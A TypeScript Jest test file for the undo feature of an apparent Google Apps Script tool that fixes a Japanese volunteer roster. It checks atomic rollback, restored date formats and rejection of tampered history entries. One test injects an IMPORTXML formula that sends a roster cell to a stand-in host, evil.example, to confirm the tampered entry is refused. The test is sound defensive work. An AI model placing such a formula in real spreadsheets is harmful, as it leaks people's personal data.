// 元に戻す: all or nothing under a failure at any of its service calls, an authenticated and strictly read history, exact number formats.
import { describe, it } from '@jest/globals';
import { expect } from '../../support/expect';
import type { FixPreview, RpcEnvelope } from '../../../src/shared/rpc';
import { HISTORY_SHEET } from '../../../src/core/history/codec';
import type { Session } from '../../../src/local/session';
import { freshSession, rpc, rpcError } from '../../local/helpers/session';
import { workbookState } from '../../local/helpers/state';

const HEADER = ['登録番号', '氏名', 'フリガナ', '生年月日', '電話番号', '郵便番号', '活動分野', '個人情報同意', '状態'];
const ROSTER = 'ボランティア名簿';

/** A roster with fixable mistakes (furigana, 和暦, phone, postal code), its fixes applied. */
function fixedSession(): Session {
  const session = freshSession();
  rpc(session, 'setupSheets');
  session.emu.setSheetValues(ROSTER, [
    HEADER,
    ['V-001', '佐藤 花子', 'サトウ ハナコ', '1950-05-01', '042-461-1234', '188-0012', '見守り', 'はい', '活動中'],
    [
      'V-002',
      '鈴木 一郎',
      'すずき いちろう',
      '昭和23年5月1日',
      '０９０－１２３４－５６７８',
      '1880013',
      '',
      'はい',
      '活動中',
    ],
    ['V-003', '髙橋 明', 'タカハシ アキラ', 'R1.5.1', '0424611235', '〒188-0014', '', 'はい', '活動中'],
  ]);
  const sheet = roster(session);
  sheet.getRange(3, 3).setNote('本人に確認中');
  sheet.getRange(3, 3).setBackground('#d9ead3');
  rpc(session, 'applyFixes', rpc<FixPreview>(session, 'previewFixes').token);
  return session;
}

function roster(session: Session): GoogleAppsScript.Spreadsheet.Sheet {
  const sheet = session.emu.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(ROSTER);
  if (!sheet) throw new Error('no roster');
  return sheet;
}

function history(session: Session): GoogleAppsScript.Spreadsheet.Sheet {
  const sheet = session.emu.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(HISTORY_SHEET);
  if (!sheet) throw new Error('no history');
  return sheet;
}

/** Rewrites the JSON of the newest action in the history sheet, as someone editing the hidden sheet would. */
function editNewestRecord(session: Session, edit: (json: string) => string): void {
  const sheet = history(session);
  const values = sheet.getDataRange().getValues();
  const column = (values[0] as string[]).indexOf('データ');
  const row = values.length;
  const cell = sheet.getRange(row, column + 1);
  const text = String(cell.getValue());
  cell.setValue(`${text.slice(0, 2)}${edit(text.slice(2))}`);
}

describe('undoLast', () => {
  it('is all or nothing: whichever service call fails, the workbook is as before the undo or fully undone, and the reply says which', () => {
    const reference = fixedSession();
    reference.emu.failAtMutation(null);
    rpc(reference, 'undoLast');
    const calls = reference.emu.mutations.length;
    // Action ids, times and seals differ between sessions (the sandbox's clock is real).
    const volatile = { [HISTORY_SHEET]: [1, 2, 6, 7] };
    const undone = workbookState(reference.emu, { volatile });
    expect(calls).toBeGreaterThan(1);
    for (let n = 1; n <= calls; n++) {
      const session = fixedSession();
      const before = workbookState(session.emu);
      session.emu.failAtMutation(n);
      const envelope = session.run('undoLast') as RpcEnvelope<unknown>;
      session.emu.failAtMutation(null);
      const after = workbookState(session.emu);
      if (envelope.ok) {
        expect(workbookState(session.emu, { volatile }), `call ${n} failed but undo reported success`).toEqual(undone);
      } else {
        expect(after, `call ${n} (${reference.emu.mutations[n - 1]}) failed`).toEqual(before);
        expect(envelope.error.ja, `call ${n}`).toContain('何も変更されていません');
        // And the undo can still be done afterwards.
        rpc(session, 'undoLast');
        expect(workbookState(session.emu, { volatile }), `undo after the failure at call ${n}`).toEqual(undone);
      }
    }
  });

  it('restores the number format a date fix changed, Automatic as Automatic', () => {
    const session = freshSession();
    rpc(session, 'setupSheets');
    session.emu.setSheetValues(ROSTER, [
      HEADER,
      ['V-001', '佐藤 花子', 'サトウ ハナコ', '令和元年5月1日', '042-461-1234', '188-0012', '', 'はい', '活動中'],
      ['V-002', '鈴木 一郎', 'スズキ イチロウ', 'R1.5.2', '042-461-1235', '188-0012', '', 'はい', '活動中'],
    ]);
    const sheet = roster(session);
    sheet.getRange(3, 4).setNumberFormat('[$-ja-JP]ggge"年"m"月"d"日"');
    const formats = sheet.getRange(2, 4, 2, 1).getNumberFormats();
    rpc(session, 'applyFixes', rpc<FixPreview>(session, 'previewFixes').token);
    expect(sheet.getRange(2, 4).getValue()).toBeInstanceOf(Date);
    rpc(session, 'undoLast');
    expect(sheet.getRange(2, 4, 2, 1).getValues()).toEqual([['令和元年5月1日'], ['R1.5.2']]);
    expect(sheet.getRange(2, 4, 2, 1).getNumberFormats()).toEqual(formats);
    // Automatic behaves as Automatic again: a date typed later is shown as a date, not as its serial.
    sheet.getRange(2, 4).setValue('2024/4/1');
    expect(sheet.getRange(2, 4).getDisplayValue()).toBe('2024/04/01');
    expect(sheet.getRange(3, 4).getNumberFormat()).toBe('[$-ja-JP]ggge"年"m"月"d"日"');
  });

  it('refuses a history entry edited to write a formula, and writes nothing', () => {
    const session = fixedSession();
    editNewestRecord(session, (json) => {
      const edited = json.replace(
        '"すずき いちろう"',
        '{"f":"=IMPORTXML(\\"https://evil.example/?q=\\"&B3,\\"//a\\")"}',
      );
      expect(edited).not.toBe(json);
      return edited;
    });
    const before = workbookState(session.emu);
    const error = rpcError(session, 'undoLast');
    expect(error.code).toBe('undo.tampered');
    expect(error.ja).toContain('つなぐ履歴');
    expect(error.ja).toContain('何も変更されていません');
    expect(workbookState(session.emu)).toEqual(before);
  });

  it('refuses an entry that is not a record at all, and one whose status was set back', () => {
    const broken = fixedSession();
    editNewestRecord(broken, (json) => json.slice(0, 20));
    expect(rpcError(broken, 'undoLast').code).toBe('undo.tampered');

    const replayed = fixedSession();
    rpc(replayed, 'undoLast');
    const sheet = history(replayed);
    const values = sheet.getDataRange().getValues();
    const status = (values[0] as string[]).indexOf('状態');
    sheet.getRange(values.length, status + 1).setValue('有効');
    const before = workbookState(replayed.emu);
    expect(rpcError(replayed, 'undoLast').code).toBe('undo.tampered');
    expect(workbookState(replayed.emu)).toEqual(before);
  });

  it('names the cell that really changed when another cell of a fixed row was edited', () => {
    const session = fixedSession();
    roster(session).getRange(3, 2).setValue('鈴木 一朗');
    const error = rpcError(session, 'undoLast');
    expect(error.code).toBe('undo.changed');
    expect(error.ja).toContain(`${ROSTER}!B3`);
    expect(error.ja).not.toContain(`${ROSTER}!C3`);
  });

  it('says rows were inserted or deleted when the fixed rows moved', () => {
    const session = fixedSession();
    roster(session).insertRowBefore(2);
    const error = rpcError(session, 'undoLast');
    expect(error.code).toBe('undo.changed');
    expect(error.ja).toContain('行の挿入');
  });
});
